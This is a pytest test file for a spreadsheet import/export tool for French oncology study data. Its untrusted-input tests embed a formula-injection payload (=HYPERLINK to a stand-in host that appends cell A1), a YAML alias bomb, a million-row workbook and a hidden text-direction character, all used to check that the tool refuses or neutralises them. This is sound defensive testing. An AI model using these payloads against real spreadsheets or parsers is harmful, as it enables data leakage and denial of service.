"""Spreadsheet export/import: lossless round trip, French Excel CSV, located problems, nothing written on error."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any, Callable

import openpyxl
import pytest
import yaml

from stsdeck.errors import DataError
from stsdeck.model import CELL_KEYS
from stsdeck.cli import run
from stsdeck.spreadsheet import export_table, import_table, to_yaml

from .conftest import DATA
HEADER = ["fichier", "category", "first_author", "year", "journal", "design", "patients", "r0_pct",
          *(f"cells.{key}" for key in CELL_KEYS)]  # r0_pct is column H, cells.reference column I
ROW = ["delaney-2003", "split-course", "Delaney", 2003, "Cancer", "phase-2", 48, 85.4,
       "Delaney and al. Cancer, 2003", "Essai de phase II", "48", "Léiomyosarcome", "", "", "", "85,4 %",
       "", "", ""]


def originals() -> dict[str, Any]:
    return {p.name: yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted((DATA / "studies").glob("*.yaml"))}


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_export_then_import_loses_nothing(tmp_path: Path, suffix: str) -> None:
    table = export_table(DATA, tmp_path / f"etudes.{suffix}")
    written = import_table(table, tmp_path / "data")
    assert {p.name: yaml.safe_load(p.read_text(encoding="utf-8")) for p in written} == originals()


def test_export_has_one_row_per_study_and_flattened_columns(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(export_table(DATA, tmp_path / "etudes.xlsx"))["Études"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["fichier", "category", "order"]
    for column in ("cells.reference", "cells.survival", "local_control.pct", "local_control.years",
                   "major_response.threshold", "radiotherapy[3].total_dose_gy", "toxicity[0].grade"):
        assert column in header
    assert sheet.max_row == 1 + len(originals())
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "delaney-2003")
    row = {h: c.value for h, c in zip(header, cells)}
    assert (row["r0_pct"], row["local_control.years"], row["radiotherapy[0].split_course"]) == (85.4, 5, True)
    assert row["cells.r0"] == "85,4 %\n(94% chir conservatrice)"


def test_csv_export_is_for_french_excel(tmp_path: Path) -> None:
    raw = export_table(DATA, tmp_path / "etudes.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbffichier;category;")
    delaney = next(line for line in raw.decode("utf-8-sig").split("\r\n") if line.startswith("delaney-2003;"))
    assert ";85,4;" in delaney and ";44;22;2;true;" in delaney


def csv_text(*rows: list[Any]) -> str:
    def field(value: Any) -> str:
        text = "" if value is None else str(value).replace(".", ",") if isinstance(value, float) else str(value)
        return f'"{text}"' if any(c in text for c in ';"\n') else text
    return "\r\n".join(";".join(field(v) for v in row) for row in [HEADER, *rows]) + "\r\n"


def test_french_excel_csv_in_cp1252_imports(tmp_path: Path) -> None:
    row = ROW[:]
    row[HEADER.index("cells.histology")] = "NO"
    row[HEADER.index("cells.chemotherapy")] = "12:30"
    row[HEADER.index("cells.patients")] = "0012"
    source = tmp_path / "etudes.csv"
    source.write_bytes(csv_text(row).encode("cp1252"))
    [path] = import_table(source, tmp_path / "data")
    study = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert path == tmp_path / "data" / "studies" / "delaney-2003.yaml"
    assert study["r0_pct"] == 85.4 and study["patients"] == 48 and study["year"] == 2003
    assert study["cells"]["r0"] == "85,4 %"
    assert (study["cells"]["histology"], study["cells"]["chemotherapy"], study["cells"]["patients"]) == \
        ("NO", "12:30", "0012")


def test_utf8_bom_crlf_csv_with_multiline_cell_imports(tmp_path: Path) -> None:
    row = ROW[:]
    row[HEADER.index("cells.reference")] = "Delaney and al. Cancer, 2003\nÉtude pilote ≥ 8 cm"
    source = tmp_path / "etudes.csv"
    source.write_bytes(csv_text(row).encode("utf-8-sig"))
    [path] = import_table(source, tmp_path / "data")
    study = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert study["r0_pct"] == 85.4
    assert study["cells"]["reference"] == "Delaney and al. Cancer, 2003\nÉtude pilote ≥ 8 cm"
    assert 'reference: "Delaney and al. Cancer, 2003\\nÉtude pilote ≥ 8 cm"' in path.read_text(encoding="utf-8")


def test_declared_separator_and_encoding(tmp_path: Path) -> None:
    source = tmp_path / "etudes.txt.csv"
    source.write_bytes(csv_text(ROW).replace(";", "\t").encode("latin-1"))
    [path] = import_table(source, tmp_path / "data", sep="\t", encoding="latin-1")
    assert yaml.safe_load(path.read_text(encoding="utf-8"))["cells"]["histology"] == "Léiomyosarcome"


def test_written_yaml_follows_the_data_format(tmp_path: Path) -> None:
    header = HEADER + ["order", "local_control.pct", "local_control.years", "toxicity[0].label", "toxicity[0].pct",
                       "toxicity[0].kind", "toxicity[1].label", "toxicity[1].pct", "toxicity[1].kind",
                       "radiotherapy[0].total_dose_gy", "radiotherapy[0].split_course"]
    row = ROW + [1, 92, 5, None, None, None, "neutropénie fébrile", 25, "haematologic", 44, True]
    [path] = import_table(workbook(tmp_path, [header, row]), tmp_path / "data")
    assert path.read_text(encoding="utf-8") == (
        'category: "split-course"\norder: 1\nfirst_author: "Delaney"\nyear: 2003\njournal: "Cancer"\n'
        'design: "phase-2"\ncells:\n  reference: "Delaney and al. Cancer, 2003"\n  design: "Essai de phase II"\n'
        '  patients: "48"\n  histology: "Léiomyosarcome"\n  chemotherapy: ""\n  radiotherapy: ""\n  pcr: ""\n'
        '  r0: "85,4 %"\n  toxicity: ""\n  local_control: ""\n  survival: ""\npatients: 48\n'
        "radiotherapy:\n  - total_dose_gy: 44\n    split_course: true\nr0_pct: 85.4\n"
        "local_control:\n  pct: 92\n  years: 5\n"
        'toxicity:\n  - {label: "neutropénie fébrile", pct: 25, kind: "haematologic"}\n')


def workbook(tmp_path: Path, rows: list[list[Any]], edit: Callable[[Any], None] | None = None) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Feuil1"
    for row in rows:
        sheet.append(row)
    if edit:
        edit(sheet)
    path = tmp_path / "etudes.xlsx"
    book.save(path)
    return path


def problems(source: Path, tmp_path: Path) -> list[str]:
    with pytest.raises(DataError) as caught:
        import_table(source, tmp_path / "data")
    assert not (tmp_path / "data").exists()
    return [str(p) for p in caught.value.problems]


def row(name: str, **changes: Any) -> list[Any]:
    values = dict(zip(HEADER, ROW), fichier=name, **changes)
    return list(values.values())


def test_non_number_in_numeric_column(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("a"), row("b", r0_pct="abc")])
    assert problems(source, tmp_path) == ["etudes.xlsx: Feuil1!H3: attendu un nombre, reçu « abc »"]


def test_non_number_in_csv(tmp_path: Path) -> None:
    source = tmp_path / "etudes.csv"
    source.write_text(csv_text(row("a", patients="48 patients")), encoding="utf-8")
    assert problems(source, tmp_path) == ["etudes.csv: etudes!G2: attendu un entier, reçu « 48 patients »"]


def test_formula_is_refused(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("a"), row("b", patients="=SUM(G2:G2)")])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!G3: formule refusée : saisissez la valeur (=SUM(G2:G2))"]


def test_merged_cells_are_refused(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("a"), row("b"), row("c")], lambda s: s.merge_cells("B3:B4"))
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!B3: cellules fusionnées refusées (B3:B4) : une valeur par cellule"]


def test_unknown_columns(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER + ["toxicité", "toxicity[0].grad"], row("a") + ["", ""]])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!T1: colonne inconnue « toxicité » (attendu : fichier, category, order, first_author, "
        "year, journal, design, title, doi, pmid, cells.*, patients, cohorts[0].*, arm, shared_patients, "
        "chemotherapy_kind, radiotherapy[0].*, pcr_pct, "
        "major_response.*, r0_pct, local_control.*, survival[0].*, toxicity[0].*)",
        "etudes.xlsx: Feuil1!U1: colonne inconnue « toxicity[0].grad » (attendu : toxicity[0].label, "
        "toxicity[0].pct, toxicity[0].kind, toxicity[0].grade, toxicity[0].cohort)"]


def test_percentage_out_of_range_is_mapped_to_its_cell(tmp_path: Path) -> None:
    header = HEADER + ["toxicity[0].label", "toxicity[0].pct", "toxicity[0].kind",
                       "toxicity[1].label", "toxicity[1].pct", "toxicity[1].kind"]
    source = workbook(tmp_path, [header, row("a", r0_pct=120) + ["", "", "", "fibrose", 150, "late"]])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!H2: attendu un pourcentage entre 0 et 100, reçu 120",
        "etudes.xlsx: Feuil1!X2: attendu un pourcentage entre 0 et 100, reçu 150"]


def test_duplicate_and_missing_fichier(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("delaney-2003"), row("Delaney-2003"), row(""), row("../x")])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!A3: fichier « Delaney-2003 » en double (déjà en A2)",
        "etudes.xlsx: Feuil1!A4: fichier manquant : nom du fichier YAML sans .yaml (ex. delaney-2003)",
        "etudes.xlsx: Feuil1!A5: nom de fichier « ../x » invalide (lettres sans accent, chiffres, - et _)"]


def test_missing_required_column_and_field(tmp_path: Path) -> None:
    header = [h for h in HEADER if h != "journal"] + ["local_control.pct", "local_control.years"]
    source = workbook(tmp_path, [header, [v for h, v in zip(HEADER, row("a")) if h != "journal"] + [92, None]])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!1:1: colonne obligatoire absente « journal »",
        "etudes.xlsx: Feuil1!T2: champ obligatoire manquant"]


# ---------------------------------------------------------------- untrusted sheets (issue 13)


def files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(source: Path, into: Path, **options: Any) -> list[str]:
    """The problems of importing `source` into `into`, checking that nothing in `into` changed."""
    before = files(into) if into.exists() else None
    with pytest.raises(DataError) as caught:
        import_table(source, into, **options)
    assert (files(into) if into.exists() else None) == before
    return [str(p) for p in caught.value.problems]


def test_csv_export_neutralises_formulas_and_import_restores_them(data_copy: Path, tmp_path: Path) -> None:
    path = data_copy / "studies" / "delaney-2003.yaml"
    study = yaml.safe_load(path.read_text(encoding="utf-8"))
    study["cells"] |= {"chemotherapy": '=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")',
                       "histology": "+ cisplatine", "design": "@SOMME(1)", "reference": "'Delaney' -- Cancer, 2003"}
    path.write_text(to_yaml(study), encoding="utf-8")
    table = export_table(data_copy, tmp_path / "etudes.csv")
    rows = list(csv.DictReader(io.StringIO(table.read_bytes().decode("utf-8-sig")), delimiter=";"))
    delaney = next(r for r in rows if r["fichier"] == "delaney-2003")
    assert delaney["cells.chemotherapy"] == """'=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")"""
    assert (delaney["cells.histology"], delaney["cells.design"], delaney["cells.reference"]) == \
        ("'+ cisplatine", "'@SOMME(1)", "''Delaney' -- Cancer, 2003")
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    written = import_table(table, tmp_path / "copie")
    expected = {p.name: yaml.safe_load(p.read_text(encoding="utf-8")) for p in (data_copy / "studies").glob("*.yaml")}
    assert {p.name: yaml.safe_load(p.read_text(encoding="utf-8")) for p in written} == expected


def hide_sheet(state: str) -> Callable[[Any], None]:
    return lambda sheet: setattr(sheet.parent.create_sheet("Notes"), "sheet_state", state)


def hide_rows(*numbers: int) -> Callable[[Any], None]:
    return lambda sheet: [setattr(sheet.row_dimensions[n], "hidden", True) for n in numbers]


def hide_column(letter: str) -> Callable[[Any], None]:
    return lambda sheet: setattr(sheet.column_dimensions[letter], "hidden", True)


@pytest.mark.parametrize("edit, expected", [
    (hide_sheet("hidden"), ["etudes.xlsx: Notes: feuille masquée refusée : affichez-la ou supprimez-la"]),
    (hide_sheet("veryHidden"), ["etudes.xlsx: Notes: feuille très masquée (invisible dans Excel) refusée : supprimez-la"]),
    (hide_rows(3, 4, 6), ["etudes.xlsx: Feuil1!3:4: lignes masquées refusées : affichez-les ou supprimez-les",
                          "etudes.xlsx: Feuil1!6:6: ligne masquée refusée : affichez-la ou supprimez-la"]),
    (hide_column("H"), ["etudes.xlsx: Feuil1!H:H: colonne masquée refusée : affichez-la ou supprimez-la"]),
], ids=["feuille-masquee", "feuille-tres-masquee", "lignes-masquees", "colonne-masquee"])
def test_hidden_parts_of_a_workbook_are_refused_by_name(tmp_path: Path, edit: Callable[[Any], None],
                                                        expected: list[str]) -> None:
    source = workbook(tmp_path, [HEADER, *(row(f"etude-{i}") for i in range(1, 6))], edit)
    assert problems(source, tmp_path) == expected


def test_an_empty_hidden_column_hides_nothing(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("a")], hide_column("Z"))
    assert [p.name for p in import_table(source, tmp_path / "data")] == ["a.yaml"]


def million_row_workbook(tmp_path: Path) -> Path:
    """A valid workbook whose sheet then holds a million more rows (written straight into its XML)."""
    small = workbook(tmp_path, [HEADER, row("a")])
    with zipfile.ZipFile(small) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    filler = '<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1_000_000
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(b"</sheetData>", filler.encode() + b"</sheetData>")
    big = tmp_path / "grand.xlsx"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return big


def test_a_million_row_sheet_is_stopped_with_a_clear_message(tmp_path: Path) -> None:
    assert problems(million_row_workbook(tmp_path), tmp_path) == [
        "grand.xlsx: Feuil1: feuille trop grande : plus de 10 000 lignes (une ligne par étude attendue) ; "
        "rien n'a été importé"]
    source = tmp_path / "grand.csv"
    source.write_text(csv_text(row("a")) + "b;x\r\n" * 1_000_000, encoding="utf-8")
    assert problems(source, tmp_path) == [
        "grand.csv: grand: feuille trop grande : plus de 10 000 lignes (une ligne par étude attendue) ; "
        "rien n'a été importé"]


def test_a_character_lost_to_cp1252_is_an_error_never_a_question_mark(tmp_path: Path) -> None:
    data, sheet = tmp_path / "data", row("delaney-2003")
    sheet[HEADER.index("cells.histology")] = "Sarcomes ≥ 8 cm"
    utf8 = tmp_path / "etudes.csv"
    utf8.write_bytes(csv_text(sheet).encode("utf-8-sig"))
    import_table(utf8, data)
    excel = tmp_path / "excel.csv"  # the same sheet saved by Excel as « CSV (séparateur : point-virgule) »
    excel.write_bytes(csv_text(sheet).encode("cp1252", errors="replace"))
    assert refused(excel, data) == [
        "excel.csv: excel!L2: « ≥ » devenu « ? » à l'enregistrement en cp1252, un encodage sans ce caractère : "
        "enregistrez le fichier en « CSV UTF-8 » et réimportez-le"]
    assert yaml.safe_load((data / "studies" / "delaney-2003.yaml").read_text(encoding="utf-8"))["cells"]["histology"] \
        == "Sarcomes ≥ 8 cm"


def test_import_shows_what_it_changes_and_absent_studies_are_refused_removed_or_kept(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    import_table(workbook(tmp_path, [HEADER, row("a"), row("b"), row("c")]), data)
    edited = workbook(tmp_path, [HEADER, row("a", r0_pct=90, **{"cells.r0": "90 %"}), row("c"), row("d")])
    assert refused(edited, data) == [
        "data/studies/b.yaml: étude absente du tableur etudes.xlsx : relancez avec --supprimer-absentes pour la "
        "supprimer, ou --garder-absentes pour la garder"]
    assert run(["import", str(edited), "--into", str(data), "--supprimer-absentes", "--simulation"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "ajoutée : d", "modifiée : a", "  cells.r0 : « 85,4 % » → « 90 % »", "  r0_pct : « 85.4 » → « 90 »",
        "supprimée : b", f"1 ajoutée(s), 1 modifiée(s), 1 supprimée(s), 1 inchangée(s) dans {data / 'studies'}",
        "simulation : rien n'a été écrit."]
    assert sorted(p.name for p in (data / "studies").iterdir()) == ["a.yaml", "b.yaml", "c.yaml"]
    assert run(["import", str(edited), "--into", str(data), "--garder-absentes"]) == 0
    assert sorted(p.name for p in (data / "studies").iterdir()) == ["a.yaml", "b.yaml", "c.yaml", "d.yaml"]
    assert capsys.readouterr().out.splitlines()[-3:] == [
        "gardée (absente du tableur) : b",
        f"1 ajoutée(s), 1 modifiée(s), 0 supprimée(s), 1 inchangée(s) dans {data / 'studies'}",
        f"2 étude(s) écrite(s), 0 supprimée(s) dans {data / 'studies'}"]
    assert run(["import", str(edited), "--into", str(data), "--supprimer-absentes"]) == 0
    assert sorted(p.name for p in (data / "studies").iterdir()) == ["a.yaml", "c.yaml", "d.yaml"]
    assert capsys.readouterr().out.splitlines()[-1] == f"0 étude(s) écrite(s), 1 supprimée(s) dans {data / 'studies'}"


def test_an_invisible_character_in_a_cell_is_a_located_error(tmp_path: Path) -> None:
    source = workbook(tmp_path, [HEADER, row("a", **{"cells.r0": "85,4 \u202e%"})])
    assert problems(source, tmp_path) == [
        "etudes.xlsx: Feuil1!P2: caractère invisible U+202E (contrôle de direction du texte) interdit dans un texte, "
        "position 6 : retirez-le"]


def test_export_validates_first_and_an_alias_bomb_stays_small(data_copy: Path, tmp_path: Path) -> None:
    anchors = ['  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    anchors += [f"  l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    study = data_copy / "studies" / "delaney-2003.yaml"
    text = study.read_text(encoding="utf-8")
    study.write_text(text + "bombe:\n" + "\n".join(anchors) + "\n", encoding="utf-8")
    limit = "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30)); "
    code = limit + "from stsdeck.cli import main; sys.argv[1:] = sys.argv[2:]; main()"
    done = subprocess.run([sys.executable, "-c", code, "stsdeck", "export", "--data", str(data_copy),
                           str(tmp_path / "etudes.csv")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    assert done.stderr.splitlines()[0].startswith(
        f"data/studies/delaney-2003.yaml:{text.count(chr(10)) + 2}: bombe: champ inconnu (attendu : category, ")
    assert not (tmp_path / "etudes.csv").exists()
